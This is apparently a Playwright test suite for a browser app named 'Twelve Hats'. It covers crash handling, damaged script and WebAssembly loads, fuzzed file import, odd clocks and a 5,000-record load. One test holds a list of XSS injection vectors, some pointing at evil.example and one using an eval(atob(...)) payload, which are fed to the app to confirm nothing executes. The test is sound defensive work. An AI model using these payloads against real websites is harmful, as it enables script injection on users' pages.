// The page itself: it breaks, it comes incompletely, it is fed what is hostile, it has much to hold, its clock is wrong.
import { existsSync, readFileSync } from "node:fs";
import { expect, FILLED, heading, isOwn, record, SAVED_ID, stage, test } from "../helpers.js";
import {
  assessments,
  BASE_URL,
  check,
  counted,
  deleteButton,
  dice,
  downloaded,
  listed,
  living,
  outside,
  put,
  putBoth,
  rename,
  save,
  SAVED,
  says,
  seededId,
  stores,
  times,
  turn,
  visit,
  wait,
  wipe,
} from "./lab.js";

const VIEWS = [
  ...["", "roles/sales-partner", "matrix", "assess", "assess/express", "assess/business", "assess/stage"],
  ...["assess/challenges", "assess/team", "assess/you", "assess/check", "focus", `focus/${SAVED_ID}`, "history"],
  ...["data", "how", "search"],
];

test(...check(16, "a panic while a view is drawn, in each view", "a screen that says so, a raw file of both stores, no write after it"), async ({ context, problems }) => {
  const beside = await outside(context);
  const bad = [];
  for (const view of VIEWS) {
    await wipe(beside);
    await putBoth(beside, { ...FILLED, ...assessments(3) });
    const page = await context.newPage();
    const from = view === "data" ? "assess/express" : "data";
    await visit(page, from);
    await says(page, SAVED);
    // Known to one of the stores alone, and not yet to the app.
    await put(beside, { indexed: record("assessment", "000zinindex", { note: "In IndexedDB alone" }) });
    const before = await stores(beside);
    await page.evaluate((view) => {
      window.remains = [...document.querySelectorAll("#app *")];
      const parts = [[Document, "createElement"], [Document, "createElementNS"], [Node, "cloneNode"]];
      const were = parts.map(([of, part]) => of.prototype[part]);
      for (const [of, part] of parts) of.prototype[part] = () => { throw new Error("out of order"); };
      window.mend = () => parts.forEach(([of, part], at) => (of.prototype[part] = were[at]));
      location.hash = `#/${view}`;
    }, view);
    const complain = (what) => bad.push(`“${view}”: ${what}`);
    try {
      await expect(heading(page)).toHaveText(["Twelve Hats has stopped"], { timeout: 10_000 });
      await page.evaluate(() => window.mend());
      await expect(page.locator("#halted").getByRole("button", { name: "Reload" })).toBeVisible();
      const asFile = page.locator("#halted").getByText("Save what is stored as a file");
      const file = JSON.parse(await downloaded(page, () => asFile.click({ timeout: 5000 })));
      for (const [key, value] of Object.entries({ ...before.local, ...before.indexed })) {
        if (file[key] !== value) complain(`${key} is not in the file`);
      }
    } catch (error) {
      complain(error.message.split("\n")[0]);
    }
    await page.evaluate(() => {
      for (const element of window.remains) {
        element.click?.();
        for (const event of ["change", "input", "submit", "mouseenter"]) element.dispatchEvent(new Event(event));
      }
      dispatchEvent(new StorageEvent("storage", { key: "12h/draft/current/1" }));
      dispatchEvent(new PageTransitionEvent("pagehide"));
      document.dispatchEvent(new Event("visibilitychange"));
      location.hash = "#/focus";
    });
    await wait(200);
    await page.close({ runBeforeUnload: true });
    if (JSON.stringify(await stores(beside)) !== JSON.stringify(before)) complain("something was written");
  }
  problems.length = 0;
  const broken = new Set(bad.map((line) => line.split(":")[0])).size;
  counted(`${VIEWS.length - broken} of ${VIEWS.length} views`);
  expect(bad).toEqual([]);
});

const half = (body) => body.subarray(0, body.length >> 1);
const garbled = (body) => {
  const copy = Buffer.from(body);
  for (let at = 100; at < copy.length; at += 97) copy[at] ^= 0x55;
  return copy;
};
const DAMAGE = {
  "does not come": (route) => route.abort(),
  "is not there": (route) => route.fulfill({ status: 404, contentType: "text/html", body: "<h1>Not found</h1>" }),
  "is another page": (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><h1>Sign in to this hotel</h1>" }),
  "is cut off": async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: half(await response.body()) });
  },
  "is garbled": async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: garbled(await response.body()) });
  },
  "never ends": () => {},
};
test(...check(17, "a script or WebAssembly file is missing, cut off, garbled or never ends", "an error one can read, within 10 s"), async ({ context, problems }) => {
  const cases = ["*.js", "*_bg.wasm", "*-later.wasm"].flatMap((part) => Object.entries(DAMAGE).map(([how, damage]) => [part, how, damage]));
  const bad = [];
  let slowest = 0;
  const tryIt = async ([part, how, damage]) => {
    const page = await context.newPage();
    await page.route(`**/${part}`, damage);
    const started = Date.now();
    await page.goto(`${BASE_URL}#/history`, { waitUntil: "commit" });
    const readable = page.locator("#halted:visible h1, h1:text('could not be loaded')").first();
    const seen = await readable.waitFor({ timeout: 30_000 }).then(() => (Date.now() - started) / 1000, () => undefined);
    slowest = Math.max(slowest, seen ?? 30);
    // A second for the browser itself and for whatever else runs on this machine.
    if (seen === undefined || seen > 11) bad.push(`${part} ${how}: ${seen === undefined ? "nothing in 30 s" : `after ${seen} s`}`);
    await page.close();
  };
  const endless = ([, how]) => how === "never ends";
  await Promise.all(cases.filter(endless).map(tryIt));
  for (const one of cases.filter((one) => !endless(one))) await tryIt(one);
  problems.length = 0;
  counted(`${cases.length - bad.length} of ${cases.length}, the slowest after ${slowest.toFixed(1)} s`);
  expect(bad).toEqual([]);
});

// ---------------------------------------------------------------------------------------------------------------
// Files

const section = (page) => page.getByRole("region", { name: "Take it with you" });
const fileOf = (values) => {
  const records = Object.entries(values).map(([key, value]) => `{"key":"${key}","value":${value}}`);
  return `{"format":"twelve-hats","version":1,"exported":${Date.UTC(2026, 2, 4)},"records":[\n${records.join(",\n")}\n]}\n`;
};
/** Chooses a file and waits for what the page has to say about it. */
async function choose(page, buffer) {
  const outcomes = "#file-title ~ [role=alert], #file-title ~ .notice, #file-title ~ [role=status]";
  await page.locator(outcomes).evaluateAll((all) => all.forEach((one) => one.setAttribute("data-seen", "")));
  await section(page).getByLabel("Bring a file back in").setInputFiles({ name: "a.json", mimeType: "application/json", buffer });
  await page.locator(outcomes.replaceAll("]", "]:not([data-seen])").replace(".notice", ".notice:not([data-seen])")).first().waitFor();
}
const bringIn = (page) => section(page).getByRole("button", { name: "Bring it in" });
const takeBack = (page) => section(page).getByRole("button", { name: "Take it back" });

const NASTY = [
  ...["1e999", "-1e999", "NaN", "null", "[]", "{}", "true", '""', "1e-400", "9007199254740993", "-1", "0.5", "4294967296"],
  ...['"__proto__"', '{"__proto__":{"x":1}}', '"\\ud800"', '"\\u0000"', '"\\u202egnp"', '"constructor"', `"${"x".repeat(5000)}"`],
  ...["[".repeat(500), "{\"a\":".repeat(500), "\u0000", "\ufeff", ",", "}", '"'],
];
/** The file with something done to it that nobody would do. */
function mutated(text, { below, pick }) {
  const at = below(text.length);
  const span = 1 + below(60);
  const tokens = [...text.matchAll(/"(?:[^"\\]|\\.)*"|-?\d[\d.e+-]*/gi)];
  const token = pick(tokens);
  const replace = (by) => text.slice(0, token.index) + by + text.slice(token.index + token[0].length);
  switch (below(10)) {
    case 0: {
      const bytes = Buffer.from(text);
      for (let flips = 1 + below(4); flips > 0; flips--) bytes[below(bytes.length)] ^= 1 << below(8);
      return bytes;
    }
    case 1:
      return Buffer.from(text.slice(0, at));
    case 2:
      return Buffer.from(text.slice(0, at) + text.slice(at + span));
    case 3:
      return Buffer.from(text.slice(0, at) + text.slice(Math.max(0, at - span)));
    case 4:
      return Buffer.from(replace(pick(tokens)[0]));
    case 5:
      return Buffer.from(text.slice(0, at) + pick(NASTY) + text.slice(at));
    case 6:
    case 7:
      // Still a file that one could have: it is offered.
      return Buffer.from(text.replace(/Elsewhere \d/g, () => pick(["Tuesday", "\u202egnp", "a<b>", "😀", `No. ${span}`])));
    default:
      return Buffer.from(replace(pick(NASTY)));
  }
}

test(...check(20, "files to be brought in, with something done to each", "no error of the page, no saved record changed"), async ({ context, problems }) => {
  const rounds = times(1000, 50);
  const dies = dice();
  const beside = await outside(context);
  await putBoth(beside, { ...FILLED, ...assessments(5) });
  const page = await context.newPage();
  await visit(page, "data");
  await says(page, SAVED);
  const before = await stores(beside);
  const text = fileOf({ ...assessments(3), ...assessments(5, (at) => `Elsewhere ${at}`), ...record("assessment", "00zznew", { note: "New" }) });
  const tally = { refused: 0, brought: 0, nothing: 0 };
  const bad = [];
  for (let round = 1; round <= rounds; round++) {
    const file = mutated(text, dies);
    await choose(page, file);
    const complain = (what) => bad.push(`file ${round}: ${what}: ${file.toString("utf8").slice(0, 2000)}`);
    if (await bringIn(page).count()) {
      tally.brought++;
      await bringIn(page).click();
      await takeBack(page).waitFor();
      await says(page, SAVED);
      const { local, indexed } = await stores(beside);
      const changed = (now, then) => Object.keys(then).filter((key) => now[key] !== then[key]);
      if (changed(local, before.local).length + changed(indexed, before.indexed).length) complain("it changed records");
      await takeBack(page).click();
      await expect(takeBack(page)).toHaveCount(0);
      await says(page, SAVED);
    } else if (await section(page).getByRole("alert").count()) {
      tally.refused++;
    } else {
      tally.nothing++;
    }
    if (round % 10 === 0 || bad.length) {
      const now = await stores(beside);
      if (JSON.stringify(now) !== JSON.stringify(before)) {
        complain("the stores are not what they were");
        break;
      }
    }
  }
  const { refused, brought, nothing } = tally;
  counted(`${rounds - bad.length} of ${rounds}: ${refused} refused, ${brought} brought in and taken back, ${nothing} brought nothing; ${problems.length} errors`);
  expect(bad).toEqual([]);
});

test(...check(22, "a file is looked at, brought in and taken back", "both stores are byte-equal to before"), async ({ context }) => {
  const rounds = times(50, 5);
  const { below } = dice();
  const beside = await outside(context);
  const bad = [];
  for (let round = 1; round <= rounds; round++) {
    await wipe(beside);
    const here = { ...(below(2) ? record("draft", "current") : {}), ...assessments(1 + below(8)) };
    await putBoth(beside, here);
    const page = await context.newPage();
    await visit(page, "data");
    await says(page, SAVED);
    const before = JSON.stringify(await stores(beside));
    const is = async (what) => JSON.stringify(await stores(beside)) === before || bad.push(`round ${round}: not byte-equal ${what}`);
    // Some as they are here, some changed elsewhere, some new.
    const there = { ...assessments(12, (at) => (at % 3 ? `Note ${at}` : `Changed ${round}.${at}`)), ...record("draft", "current") };
    await choose(page, Buffer.from(fileOf(there)));
    await is("once it is shown");
    await bringIn(page).click();
    await takeBack(page).waitFor();
    await says(page, SAVED);
    const notes = living(await stores(beside)).map(({ note }) => note);
    for (const note of ["Note 11", `Changed ${round}.12`]) if (!notes.includes(note)) bad.push(`round ${round}: “${note}” was not brought in`);
    await takeBack(page).click();
    await expect(takeBack(page)).toHaveCount(0);
    await says(page, SAVED);
    await is("once it is taken back");
    await page.close();
  }
  const broken = new Set(bad.map((line) => line.split(":")[0])).size;
  counted(`${rounds - broken} of ${rounds}`);
  expect(bad).toEqual([]);
});

// ---------------------------------------------------------------------------------------------------------------
// Markup in the data

const CALL = "window.ran=1";
const VECTORS = [
  ...[`<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`, `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<body onload=${CALL}>`],
  ...[`<iframe srcdoc="<script>parent.ran=1</script>">`, `<iframe src="javascript:parent.ran=1">`, `<object data="javascript:${CALL}">`],
  ...[`<embed src="javascript:${CALL}">`, `<a href="javascript:${CALL}">x</a>`, `<details open ontoggle=${CALL}>`, `<video src=x onerror=${CALL}>`],
  ...[`<audio src=x onerror=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<marquee onstart=${CALL}>`],
  ...[`<math href="javascript:${CALL}">x</math>`, `<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`],
  ...[`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action="//evil.example"><button>x`, `<style>*{display:none}</style>`],
  ...[`<svg><animate onbegin=${CALL} attributeName=x>`, `<svg><script>${CALL}</script></svg>`, `<template><script>${CALL}</script></template>`],
  ...[`<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<img src="x\` \`<script>${CALL}</script>"\` \`>`],
  ...[`\${${CALL}}`, `{{constructor.constructor('${CALL}')()}}`, `javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`],
  ...[`&lt;script&gt;${CALL}&lt;/script&gt;`, `%3Cscript%3E${CALL}%3C/script%3E`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`],
  ...[`<scr<script>ipt>${CALL}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror="eval(atob('d2luZG93LnJhbj0x'))">`],
  ...[`<x onclick=${CALL} id=main>x</x>`, `<portal src="javascript:${CALL}">`, `<xmp><img src=x onerror=${CALL}></xmp>`, `<plaintext><img src=x onerror=${CALL}>`],
];
const BEFORE = ["", `">`, `'>`, `</title></textarea></style></script>`, `]]>-->\u202e`];
const PAYLOADS = VECTORS.flatMap((vector) => BEFORE.map((before) => before + vector)).slice(0, 200);

test(...check(24, "200 scripts and tags as note, as name, and as a raw record", "no script runs, no element comes of it"), async ({ context, baseURL }) => {
  expect(new Set(PAYLOADS).size).toBe(200);
  const beside = await outside(context);
  const dialogs = [];
  const foreign = [];
  context.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  context.on("request", (request) => isOwn(request.url(), baseURL) || foreign.push(request.url()));
  const bad = [];
  let seen = 0;
  const page = await context.newPage();
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.blockedURI));
  });
  const names = (at) => Object.fromEntries([0, 1, 2].map((name) => [name, PAYLOADS[(3 * at + name) % 200]]));
  // As many assessments as payloads; in each, other payloads as names, in the older shape that every version reads.
  const nameList = (at) => Array.from({ length: 12 }, (_, name) => [...(names(at)[name] ?? "")].slice(0, 40).join(""));
  const covered = { answers: "2.a.1.a.222222222222.-.-.-.90" };
  const values = assessments(200, (at) => PAYLOADS[at - 1], (at) => ({ ...covered, names: nameList(at) }));
  for (let at = 0; at < 200; at++) values[`12h/assessment/raw${at.toString(36)}raw/1`] = PAYLOADS[at];
  await putBoth(beside, values);

  const judge = async (view, expected) => {
    const found = await page.evaluate((expected) => {
      const roots = [...document.body.children].filter((one) => one.tagName !== "SCRIPT" && one.id !== "halted");
      const all = roots.flatMap((root) => [root, ...root.querySelectorAll("*")]);
      const banned = "script, iframe, object, embed, base, link, meta, style, marquee, portal, math, template, xmp, video, audio, img, animate, x";
      const text = document.body.textContent;
      const values = [...document.querySelectorAll("input")].map(({ value }) => value);
      return {
        ran: window.ran,
        violations: window.violations,
        elements: all.filter((one) => one.matches(banned)).map((one) => one.outerHTML.slice(0, 80)),
        handlers: all.filter((one) => [...one.attributes].some(({ name }) => name.startsWith("on"))).map((one) => one.outerHTML.slice(0, 80)),
        links: all.filter((one) => /^\s*(javascript|data):/i.test(one.getAttribute("href") ?? "")).map((one) => one.outerHTML.slice(0, 80)),
        shown: expected.filter((payload) => text.includes(payload) || values.includes(payload)).length,
      };
    }, expected);
    const { shown, ...harm } = found;
    seen += shown;
    const clean = { ran: undefined, violations: [], elements: [], handlers: [], links: [] };
    if (JSON.stringify(harm) !== JSON.stringify(clean)) bad.push(`${view}: ${JSON.stringify(harm)}`);
    return shown;
  };
  await visit(page, "history");
  await expect.poll(async () => (await listed(page)).size).toBe(200);
  expect(await judge("history", PAYLOADS), "the payloads are on the screen").toBe(200);
  await turn(page, "data");
  await page.locator("details").evaluateAll((all) => all.forEach((one) => (one.open = true)));
  expect(await judge("data", PAYLOADS), "the raw records are on the screen").toBe(200);
  for (let at = 1; at <= 200; at++) {
    await turn(page, `focus/${seededId(at)}`);
    await judge(`focus/${seededId(at)}`, [PAYLOADS[at - 1]]);
  }
  // As the draft: in the fields for names, among the answers, in the answer, in what is tried out.
  const drafts = Math.ceil(200 / 12);
  for (let draft = 0; draft < drafts; draft++) {
    const own = Array.from({ length: 12 }, (_, at) => [...PAYLOADS[(12 * draft + at) % 200]].slice(0, 40).join(""));
    await wipe(beside).catch(() => {});
    await page.goto("about:blank");
    await wipe(beside);
    await putBoth(beside, record("draft", "current", { ...covered, names: own }));
    await visit(page, "assess/team");
    expect(await judge("assess/team", own), "the names are in their fields").toBe(12);
    for (const view of ["assess/check", "focus", "roles/visionary", "matrix", "search"]) {
      await turn(page, view);
      await judge(view, own);
    }
  }
  counted(`${bad.length + dialogs.length + foreign.length} scripts, dialogs, elements or requests; ${seen} times a payload was shown as text`);
  expect(bad).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
});

// ---------------------------------------------------------------------------------------------------------------
// Time, and size

const CLOCKS = [
  ["as it is", () => 0],
  ["a year behind", () => -365 * 864e5],
  ["1970", () => -Date.now() + 1000],
  ["the end of 9999", () => Date.UTC(9999, 11, 31, 23, 59, 58) - Date.now()],
  ["the hour that does not exist", () => Date.parse("2026-03-29T02:30:00+01:00") - Date.now()],
  ["the hour that is there twice", () => Date.parse("2026-10-25T02:30:00+01:00") - Date.now()],
  ["the same hour before", () => Date.parse("2026-10-25T02:30:00+02:00") - Date.now()],
  ["the last day that a date can be", () => 864e13 - 60_000 - Date.now()],
  ["as it is again", () => 0],
];
test.describe("where there is summer time", () => {
  test.use({ timezoneId: "Europe/Berlin" });

  test(...check(27, "the clock goes back, jumps an hour, shows 9999", "order goes by id and revision, nothing is lost"), async ({ context }) => {
    const beside = await outside(context);
    await putBoth(beside, record("draft", "current"));
    const STAGES = ["Idea or MVP", "Growth", "Scale-up", "Mature", "Seed"];
    let first;
    const times = [];
    for (const [at, [clock, shift]] of CLOCKS.entries()) {
      const page = await context.newPage();
      await page.addInitScript((shift) => {
        const Real = Date;
        window.Date = class extends Real {
          constructor(...all) {
            super(...(all.length ? all : [Real.now() + shift]));
          }
          static now() {
            return Real.now() + shift;
          }
        };
      }, shift());
      await visit(page, "assess/express");
      await stage(page, STAGES[at % 5]).click();
      const id = await save(page, clock);
      first ??= id;
      await turn(page, "history");
      await rename(page, first, `Renamed ${at}`);
      await says(page, SAVED);
      times.push(living(await stores(beside)).find((one) => one.id === id).time);
      for (const view of ["", "focus", `focus/${id}`, "data", "assess/express"]) await turn(page, view);
      await page.close();
    }
    const page = await context.newPage();
    await visit(page, "history");
    const expected = [...CLOCKS.slice(1).map(([clock]) => clock).reverse(), `Renamed ${CLOCKS.length - 1}`];
    await expect.poll(async () => [...(await listed(page)).values()].length).toBe(expected.length);
    const names = [...(await listed(page)).values()];
    const right = names.filter((name, at) => name === expected[at]).length;
    counted(`${right} of ${expected.length} in their places`);
    expect(names).toEqual(expected);
    await visit(page, "assess/express");
    await expect(stage(page, STAGES[(CLOCKS.length - 1) % 5])).toBeChecked();
    // The clocks were really wrong.
    expect([...times].sort((a, b) => a - b)).not.toEqual(times);
  });
});

/** The memory of the largest of the processes that draw pages, in megabytes; 0 where only Linux could tell. */
async function largestRenderer(context) {
  const system = await context.browser().newBrowserCDPSession();
  const { processInfo } = await system.send("SystemInfo.getProcessInfo");
  const resident = ({ id }) => Number(/VmRSS:\s+(\d+)/.exec(existsSync(`/proc/${id}`) ? readFileSync(`/proc/${id}/status`, "utf8") : "")?.[1] ?? 0);
  return Math.round(Math.max(...processInfo.filter(({ type }) => type === "renderer").map(resident)) / 1000);
}

test(...check(28, "5,000 records", "it starts and lists them; figures, not limits, but for gross ones"), async ({ context }) => {
  const beside = await outside(context);
  await putBoth(beside, { ...record("draft", "current"), ...assessments(5000) });
  const figures = {};
  for (const view of ["", "history"]) {
    const page = await context.newPage();
    await page.addInitScript(() => {
      new MutationObserver(() => {
        if (document.documentElement.dataset.live === "true") window.live ??= performance.now();
        if (document.querySelector("#main a[href^='#/focus/']")) window.drawn ??= performance.now();
      }).observe(document, { subtree: true, childList: true, attributes: true });
    });
    await visit(page, view);
    await says(page, SAVED);
    if (view === "history") await page.waitForFunction(() => window.drawn);
    const megabytes = await largestRenderer(context);
    figures[view] = await page.evaluate(() => ({
      paint: Math.round(performance.getEntriesByName("first-contentful-paint")[0]?.startTime ?? -1),
      live: Math.round(window.live),
      drawn: Math.round(window.drawn ?? -1),
      nodes: document.querySelectorAll("*").length,
    }));
    figures[view].megabytes = megabytes;
    if (view === "history") {
      const [[id]] = await listed(page);
      await rename(page, id, "Renamed among 5,000");
      await expect(page.getByRole("link", { name: "Renamed among 5,000" })).toBeVisible();
      await says(page, SAVED);
      await turn(page, `focus/${seededId(17)}`);
      await expect(heading(page)).toBeVisible();
    }
    await page.close();
  }
  const { "": model, history } = figures;
  counted(
    `first paint ${model.paint} ms, live ${model.live} ms, ${model.megabytes} MB; ` +
      `history: paint ${history.paint} ms, live ${history.live} ms, list ${history.drawn} ms, ${history.nodes} elements, ${history.megabytes} MB`,
  );
  expect(history.nodes).toBeLessThanOrEqual(1500);
  expect(Math.max(model.live, history.drawn)).toBeLessThan(20_000);
  expect(Math.max(model.megabytes, history.megabytes)).toBeLessThan(1000);
});
